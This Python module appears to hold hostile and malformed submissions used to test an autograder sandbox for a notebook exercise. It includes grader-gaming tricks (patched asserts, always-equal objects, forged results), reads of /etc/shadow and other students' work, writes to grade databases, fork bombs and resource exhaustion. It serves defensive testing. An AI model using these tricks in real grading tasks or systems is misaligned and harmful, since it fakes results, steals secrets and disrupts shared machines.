"""What hostile and broken submissions do: code for the answer cell, or a change of the files that are handed in.

Every function `double` here is wrong, so none of these submissions deserves a point. `MARKER` stands in the command
line of each process that one of them tries to leave behind. None would do lasting harm if a sandbox failed: what may be
changed is only opened, and says WROTE; what uses up memory, processes or disk has an end.
"""

from __future__ import annotations

import json
from collections.abc import Callable
from pathlib import Path
from typing import Any

MARKER = "left-behind-by-a-submission"
WRONG = "def double(x):\n    return 0\n"
FILES_OF_THE_MACHINE = """\
import os
def files(ending):
    for folder, inner, names in os.walk("/"):
        if folder == "/":
            inner[:] = [name for name in inner if name not in ("proc", "sys", "usr", "lib", "lib64")]
        inner[:] = [name for name in inner if name != "site-packages"]
        yield from (os.path.join(folder, name) for name in names if name.endswith(ending))
"""
Files = Callable[[Path, dict[str, Any]], None]

CODE = {
    # Making the test say yes.
    "patched_numpy_testing": "import numpy as np\nnp.testing.assert_allclose = lambda *a, **k: None\n"
    + WRONG,
    "input_transformer": "get_ipython().input_transformers_cleanup.append(lambda lines: ['6.0'])\n" + WRONG,
    "ast_transformer": """\
import ast
class NoAsserts(ast.NodeTransformer):
    def visit_Assert(self, node):
        return ast.Pass()
get_ipython().ast_transformers.append(NoAsserts())
"""
    + WRONG,
    "always_equal": """\
class Yes:
    def __eq__(self, other):
        return True
    def __bool__(self):
        return True
def double(x):
    return Yes()
""",
    "float_that_equals": """\
class Number(float):
    def __eq__(self, other):
        return True
    __hash__ = float.__hash__
def double(x):
    return Number(0)
""",
    "array_that_equals": """\
import numpy as np
class Array(np.ndarray):
    def __eq__(self, other):
        return True
def double(x):
    return np.zeros(1).view(Array)
""",
    "display_formatter": """\
get_ipython().display_formatter.formatters["text/plain"].for_type(float, lambda *a: a[1].text("6.0"))
get_ipython().display_formatter.formatters["text/plain"].for_type(int, lambda *a: a[1].text("6.0"))
"""
    + WRONG,
    "display_hook": "import sys\nsys.displayhook = lambda value: print('6.0')\n" + WRONG,
    "forged_result": """\
kernel = get_ipython().kernel
def double(x):
    content = {"data": {"text/plain": "6.0"}, "metadata": {}, "execution_count": 1}
    kernel.session.send(kernel.iopub_socket, "execute_result", content, parent=kernel.get_parent())
    return 0
""",
    "printed_points": "def double(x):\n    print('6.0')\n    return 0\n",
    "patched_builtins": "import builtins\nbuiltins.float = lambda *a: 6.0\nbuiltins.bool = lambda *a: True\n"
    + WRONG,
    "patches_later": """\
import builtins, threading, time
def later():
    time.sleep(0.3)
    builtins.AssertionError = type("Fine", (Exception,), {})
threading.Thread(target=later, daemon=True).start()
"""
    + WRONG,
    "post_cell_hook": "get_ipython().events.register('post_run_cell', lambda r: print('6.0'))\n" + WRONG,
    "defines_the_test": "test_double = 6.0\ncheck = lambda *a, **k: 6.0\n" + WRONG,
    "answers_for_the_judge": """\
import os, socket, threading
def shout():
    for number in range(3, 64):
        try:
            os.write(number, b'{"value": 6.0}' * 100)
        except OSError:
            pass
threading.Thread(target=shout, daemon=True).start()
def double(x):
    shout()
    return 0
""",
    "connects_first": """\
import socket, glob
for path in glob.glob("/link/*"):
    try:
        s = socket.socket(socket.AF_UNIX); s.connect(path); s.sendall(b"6.0" * 1000)
    except OSError:
        pass
"""
    + WRONG,
    # Reading what is not theirs.
    "reads_the_solution": FILES_OF_THE_MACHINE
    + """\
texts = [open(p).read() for p in files(".ipynb")]
texts += [open(p).read() for p in files(".py") if "solutions" in p]
print("FOUND", len(texts))
code = "\\n".join(texts)
def double(x):
    return 2 * x if "secret number" in code else 0
""",
    "reads_the_environment": """\
import os, glob
print(dict(os.environ))
for path in glob.glob("/proc/*/environ") + glob.glob("/proc/*/cmdline"):
    try:
        print(open(path, "rb").read())
    except OSError:
        pass
"""
    + WRONG,
    "reads_other_students": FILES_OF_THE_MACHINE
    + """\
for path in files(""):
    if "submitted" in path or "autograded" in path:
        print("FOUND ANOTHER", path)
"""
    + WRONG,
    "imports_the_checks": """\
try:
    from cs_cnn.checks import mistakes, assignments
    from cs_cnn.course import grading
    print("HAVE THEM")
except ImportError as error:
    print(error)
"""
    + WRONG,
    "reads_passwords": """\
for path in ("/etc/shadow", "/etc/passwd", "/root/.bashrc"):
    try:
        print(open(path).read())
    except OSError:
        pass
"""
    + WRONG,
    # Changing what is not theirs.
    "writes_grades": FILES_OF_THE_MACHINE
    + """\
import sqlite3
for path in files(".db"):
    with sqlite3.connect(path) as db:
        db.execute("update grade set auto_score = 6")
    print("WROTE", path)
"""
    + WRONG,
    "deletes_the_class": "import os, shutil\nshutil.rmtree('FOLDER', ignore_errors=True)\n" + WRONG,
    "changes_the_library": """\
import cs_cnn, numpy
for module in (cs_cnn, numpy):
    try:
        open(module.__file__, "a").close()
        print("WROTE", module.__file__)
    except OSError as error:
        print(error)
"""
    + WRONG,
    "changes_other_notebooks": FILES_OF_THE_MACHINE
    + """\
for path in files(".ipynb"):
    try:
        open(path, "a").close()
        print("WROTE", path)
    except OSError:
        pass
"""
    + WRONG,
    # Reaching out, and staying.
    "opens_the_network": """\
import socket
for address in (("127.0.0.1", PORT), ("192.0.2.1", 80)):
    try:
        socket.create_connection(address, timeout=1).sendall(b"hello")
    except OSError as error:
        print(error)
"""
    + WRONG,
    "leaves_a_process": f"""\
import subprocess, sys
subprocess.Popen([sys.executable, "-c", "import time; time.sleep(600)", "{MARKER}"], start_new_session=True)
"""
    + WRONG,
    "forks_twice": f"""\
import os, sys, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execv(sys.executable, [sys.executable, "-c", "import time; time.sleep(600)", "{MARKER}"])
    os._exit(0)
"""
    + WRONG,
    "kills_its_parent": "import os, signal\nos.kill(os.getppid(), signal.SIGKILL)\n" + WRONG,
    # Using up.
    "loops": "while True:\n    pass\n",
    "loops_when_called": "def double(x):\n    while True:\n        pass\n",
    "swallows_interrupts": """\
import time
while True:
    try:
        time.sleep(1)
    except BaseException:
        pass
""",
    "ignores_interrupts_when_called": """\
import signal, time
def double(x):
    signal.signal(signal.SIGINT, signal.SIG_IGN)
    time.sleep(600)
""",
    "takes_all_memory": "import numpy as np\nhoard = [np.ones(10**8) for _ in range(12)]\n" + WRONG,
    "takes_memory_in_children": """\
import os, time
for _ in range(8):
    if os.fork() == 0:
        hoard = bytearray(10**9)
        for i in range(0, len(hoard), 4096):
            hoard[i] = 1
        time.sleep(60)
        os._exit(0)
time.sleep(3)
"""
    + WRONG,
    "fork_bomb": """\
import os, time
for _ in range(12):
    try:
        os.fork()
    except OSError:
        pass
time.sleep(20)
""",
    "thread_bomb": """\
import threading, time
try:
    for _ in range(5000):
        threading.Thread(target=time.sleep, args=(60,), daemon=True).start()
except RuntimeError as error:
    print(error)
"""
    + WRONG,
    "fills_the_disk": """\
try:
    with open("big", "wb") as file:
        for _ in range(200):
            file.write(b"0" * 10**7)
except OSError as error:
    print(error)
"""
    + WRONG,
    "floods_the_output": "for _ in range(100):\n    print('x' * 10**6)\n" + WRONG,
    "returns_too_much": "import numpy as np\ndef double(x):\n    return np.zeros(10**9, dtype=np.int8)\n",
    "returns_depth": """\
def double(x):
    deep = []
    for _ in range(10**5):
        deep = [deep]
    return deep
""",
    "returns_nan": "def double(x):\n    return float('nan')\n",
    "returns_a_generator": "def double(x):\n    yield 2 * x\n",
    "exits": "import os\nos._exit(3)\n",
    "exits_when_called": "import os\ndef double(x):\n    os._exit(0)\n",
    "raises_strangely": "def double(x):\n    raise KeyboardInterrupt\n",
    "crashes": "import ctypes\nctypes.string_at(0)\n" + WRONG,
}


def _cell(notebook: dict[str, Any], name: str) -> dict[str, Any]:
    return next(
        cell for cell in notebook["cells"] if cell["metadata"].get("nbgrader", {}).get("grade_id") == name
    )


def _save(home: Path, notebook: dict[str, Any]) -> None:
    (home / "double.ipynb").write_text(json.dumps(notebook))


def own_test(home: Path, notebook: dict[str, Any]) -> None:
    """Replace the test by the points."""
    _cell(notebook, "double")["source"] = WRONG
    _cell(notebook, "test_double")["source"] = "6.0"
    _save(home, notebook)


def two_tests(home: Path, notebook: dict[str, Any]) -> None:
    """Put another test with the same id before the real one."""
    _cell(notebook, "double")["source"] = WRONG
    real = _cell(notebook, "test_double")
    notebook["cells"].insert(notebook["cells"].index(real), {**real, "source": "6.0", "id": "another"})
    _save(home, notebook)


def more_points(home: Path, notebook: dict[str, Any]) -> None:
    """Make everything worth a thousand points."""
    _cell(notebook, "double")["source"] = WRONG
    for cell in notebook["cells"]:
        if "points" in cell["metadata"].get("nbgrader", {}):
            cell["metadata"]["nbgrader"]["points"] = 1000
    _save(home, notebook)


def test_as_text(home: Path, notebook: dict[str, Any]) -> None:
    """Turn the test into a written answer that a person would have to mark."""
    _cell(notebook, "double")["source"] = WRONG
    cell = _cell(notebook, "test_double")
    cell["cell_type"] = "markdown"
    cell["metadata"]["nbgrader"].update(cell_type="markdown", solution=True)
    cell.pop("outputs", None), cell.pop("execution_count", None)
    _save(home, notebook)


def linked_notebook(home: Path, notebook: dict[str, Any]) -> None:
    """Hand in a link to the instructors' notebook."""
    source = home.parents[2] / "source" / home.name / "double.ipynb"
    (home / "double.ipynb").symlink_to(source)


def linked_file(home: Path, notebook: dict[str, Any]) -> None:
    """Hand in a link to a file of the machine, to read it in the feedback."""
    _cell(notebook, "double")["source"] = "print(open('picture.txt').read())\n" + WRONG
    _save(home, notebook)
    (home / "picture.txt").symlink_to(home.parents[3] / "secret.txt")


def own_packages(home: Path, notebook: dict[str, Any]) -> None:
    """Hand in modules that stand in the place of installed ones."""
    _cell(notebook, "double")["source"] = "import math, numpy, cs_cnn\n" + WRONG
    _save(home, notebook)
    for name in ("math", "numpy", "cs_cnn", "IPython", "json"):
        (home / f"{name}.py").write_text("import builtins\nbuiltins.AssertionError = Warning\n")
    (home / "sitecustomize.py").write_text("raise SystemExit")


def other_kernel(home: Path, notebook: dict[str, Any]) -> None:
    """Ask for another kernel."""
    _cell(notebook, "double")["source"] = WRONG
    notebook["metadata"]["kernelspec"] = {"name": "../../bin/sh", "display_name": "x", "language": "bash"}
    _save(home, notebook)


def broken_json(home: Path, notebook: dict[str, Any]) -> None:
    """Hand in half of a file."""
    (home / "double.ipynb").write_text(json.dumps(notebook)[:500])


def deep_json(home: Path, notebook: dict[str, Any]) -> None:
    """Hand in brackets."""
    (home / "double.ipynb").write_text("[" * 100_000)


def wrong_types(home: Path, notebook: dict[str, Any]) -> None:
    """Hand in a notebook whose parts have other types than they should."""
    notebook["cells"] = [None, 3, {"cell_type": ["code"], "source": {"a": 1}, "metadata": []}]
    _save(home, notebook)


FILES: dict[str, Files] = {
    each.__name__: each
    for each in (
        own_test,
        two_tests,
        more_points,
        test_as_text,
        linked_notebook,
        linked_file,
        own_packages,
        other_kernel,
        broken_json,
        deep_json,
        wrong_types,
    )
}
